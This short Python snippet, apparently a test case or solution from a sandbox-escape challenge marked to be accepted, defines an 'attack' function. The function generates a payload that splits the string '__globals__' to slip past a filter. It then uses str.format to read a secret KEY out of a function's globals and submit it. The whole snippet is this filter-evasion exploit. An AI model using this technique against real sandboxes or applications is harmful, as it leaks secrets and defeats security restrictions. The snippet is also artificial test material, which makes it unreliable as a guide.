# expect: ACCEPTED
def attack(word: str) -> str:
    return f"""
key = ("{{0._" + "_globals_" + "_[KEY]}}").format(enter)
enter(key, "".join({list(word)!r}))
"""
